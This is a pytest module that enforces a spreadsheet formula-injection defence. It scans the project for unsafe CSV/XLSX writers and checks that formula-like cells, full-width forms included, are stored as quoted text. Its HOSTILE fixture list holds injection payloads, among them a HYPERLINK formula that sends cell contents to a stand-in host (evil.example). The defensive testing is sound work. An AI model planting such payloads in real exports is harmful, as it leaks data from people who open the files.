"""One cell-safety rule for every spreadsheet writer (`core.tabular.cellsafety`).

The scan below reads every Python module of the project and fails when a spreadsheet is written
anywhere but through the safe writers: a new ``csv.writer``, ``openpyxl.Workbook``,
``to_excel``/``to_csv`` or xlsxwriter call elsewhere breaks this test. The behavioural tests
check the rule itself: formula-like text, full-width forms included, becomes text.
"""

from __future__ import annotations

import ast
import csv
import io
import textwrap
from pathlib import Path

import openpyxl
import pytest

from core.tabular.cellsafety import (
    FORMULA_PREFIXES,
    SafeWorkbook,
    defuse,
    safe_csv_writer,
    safe_sheet_title,
)
from core.tabular.renderers import CSVRenderer, XLSXRenderer

ROOT = Path(__file__).resolve().parents[2]
SKIPPED_DIRS = {".venv", "tests", "benchmarks", "var", "node_modules", "docs", ".git"}
SAFE_MODULES = {"core/tabular/cellsafety.py"}
# Writers that are not spreadsheets a person opens, each with the reason.
ALLOWED = {
    ("accounting/imports/writers.py", "to_csv"): "staging rows for COPY FROM STDIN into PostgreSQL",
}
WRITER_CALLS = {"to_csv", "to_excel", "ExcelWriter", "writer", "DictWriter", "Workbook"}
WRITER_IMPORTS = {
    "csv": {"writer", "DictWriter"},
    "openpyxl": {"Workbook"},
    "openpyxl.workbook": {"Workbook"},
    "openpyxl.workbook.workbook": {"Workbook"},
    "openpyxl.cell": {"WriteOnlyCell", "Cell"},
    "openpyxl.cell.cell": {"WriteOnlyCell", "Cell"},
    "pandas": {"ExcelWriter"},
}
WRITER_MODULES = ("xlsxwriter", "xlwt", "odf", "pyexcel", "tablib", "openpyxl.writer")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Open details")',
    "=cmd()+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tlead tab",
    "\rlead return",
    "＝1+1",
    "＋cmd",
    "－A1",
    "＠SUM(A1)",
]

# XML parsers read a CR in text back as LF: what an XLSX reader sees of HOSTILE.
READ_BACK = {text.replace("\r", "\n") for text in HOSTILE}


def writers_in(source: str) -> list[tuple[int, str]]:
    """(line, what) for every spreadsheet-writing call or import in a module's source."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            owner = func.value if isinstance(func, ast.Attribute) else None
            if name in {"writer", "DictWriter"} and not (
                isinstance(owner, ast.Name) and owner.id == "csv"
            ):
                continue  # only csv's: other .writer() calls are not CSV writers
            if name in WRITER_CALLS:
                found.append((node.lineno, name))
            elif name == "load_workbook" and not _read_only(node):
                found.append((node.lineno, "load_workbook"))  # a writable workbook: saved again?
        elif isinstance(node, ast.ImportFrom) and node.module:
            banned = WRITER_IMPORTS.get(node.module, set())
            if node.module.startswith(WRITER_MODULES):
                banned = {alias.name for alias in node.names}
            found += [(node.lineno, a.name) for a in node.names if a.name in banned]
        elif isinstance(node, ast.Import):
            found += [(node.lineno, a.name) for a in node.names if a.name in WRITER_MODULES]
    return found


def _read_only(call: ast.Call) -> bool:
    return any(
        k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value is True
        for k in call.keywords
    )


def project_modules():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT)
        if not SKIPPED_DIRS & set(relative.parts[:-1]):
            yield relative.as_posix(), path


def test_no_spreadsheet_writer_bypasses_the_safe_module():
    offenders, allowed_seen = [], set()
    for name, path in project_modules():
        if name in SAFE_MODULES:
            continue
        for line, what in writers_in(path.read_text(encoding="utf-8")):
            if (name, what) in ALLOWED:
                allowed_seen.add((name, what))
            else:
                offenders.append(f"{name}:{line} {what}")
    assert not offenders, "write spreadsheets with core.tabular.cellsafety: " + ", ".join(offenders)
    assert allowed_seen == set(ALLOWED), "an allowed writer is gone: drop it from ALLOWED"


def test_the_scan_sees_every_kind_of_writer():
    source = textwrap.dedent(
        """
        import csv, xlsxwriter
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from pandas import ExcelWriter
        import openpyxl
        csv.writer(buffer)
        csv.DictWriter(buffer, fieldnames=[])
        openpyxl.Workbook()
        frame.to_excel("x.xlsx")
        frame.to_csv(buffer)
        logging.writer()
        openpyxl.load_workbook(path)
        openpyxl.load_workbook(path, read_only=True)
        """
    )
    found = {what for _, what in writers_in(source)}
    assert found == {
        "xlsxwriter",
        "Workbook",
        "WriteOnlyCell",
        "ExcelWriter",
        "writer",
        "DictWriter",
        "to_excel",
        "to_csv",
        "load_workbook",
    }
    assert sum(1 for _, what in writers_in(source) if what == "load_workbook") == 1
    assert sum(1 for _, what in writers_in(source) if what == "writer") == 1


def test_the_rule_covers_ascii_and_full_width_prefixes_but_not_numbers():
    assert {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} <= set(FORMULA_PREFIXES)
    for text in HOSTILE:
        assert defuse(text) == "'" + text
    for number in ("-1.5", "+3e9", ".5", "12", ""):
        assert defuse(number) == number
    assert defuse(defuse("=1")) == "'=1"  # applying the rule twice changes nothing more


def test_safe_csv_writer_defuses_every_cell_and_keeps_numbers():
    buffer = io.StringIO()
    writer = safe_csv_writer(buffer, lineterminator="\r\n")
    writer.writerow(["=head", "n"])
    writer.writerows([[text, -1.5] for text in HOSTILE])
    lines = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert lines[0] == ["'=head", "n"]
    assert [line[0] for line in lines[1:]] == ["'" + text for text in HOSTILE]
    assert {line[1] for line in lines[1:]} == {"-1.5"}


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book, [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_safe_workbook_writes_formula_like_text_as_text_cells(write_only):
    workbook = SafeWorkbook(write_only=write_only)
    sheet = workbook.create_sheet("=evil/title")
    if write_only:
        for text in HOSTILE:
            sheet.append([text, 2.5])
    else:
        for row, text in enumerate(HOSTILE, start=1):
            sheet.cell(row=row, column=1, value=text)
            sheet.cell(row=row, column=2, value=2.5)
        sheet["C1"] = "=SUM(B1:B3)"
    buffer = io.BytesIO()
    workbook.save(buffer)
    book, cells = _cells(buffer.getvalue())
    assert "evil title" in book.sheetnames
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert {cell.value for cell in texts} >= READ_BACK
    for cell in texts:
        assert cell.data_type == "s", cell.value  # never "f": Excel shows it, never runs it
        assert cell.quotePrefix
    assert {cell.value for cell in cells if cell.data_type == "n" and cell.value} == {2.5}


def test_sheet_titles_are_valid_and_start_with_no_formula_character():
    assert safe_sheet_title("＝cmd") == "cmd"
    assert safe_sheet_title("'=a:b'") == "a b"
    assert safe_sheet_title("===", "Export") == "Export"
    assert len(safe_sheet_title("x" * 40)) == 31


def test_api_renderers_write_full_width_formulas_as_text():
    body = [{"name": text, "value": 1} for text in HOSTILE]
    text = CSVRenderer().render(body).decode()
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert [line[0] for line in lines[1:]] == ["'" + text for text in HOSTILE]
    _book, cells = _cells(XLSXRenderer().render(body))
    hostile = [cell for cell in cells if cell.value in READ_BACK]
    assert len(hostile) == len(HOSTILE)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


def test_a_hostile_column_name_is_a_text_header_in_xlsx_and_csv():
    body = [{"=cmd()+1": 1.0, "＠x": "a"}]
    header = CSVRenderer().render(body).decode().splitlines()[0]
    assert header == "'=cmd()+1,'＠x"
    _book, cells = _cells(XLSXRenderer().render(body))
    named = [cell for cell in cells if cell.value in ("=cmd()+1", "＠x")]
    assert named and all(cell.data_type == "s" for cell in named)
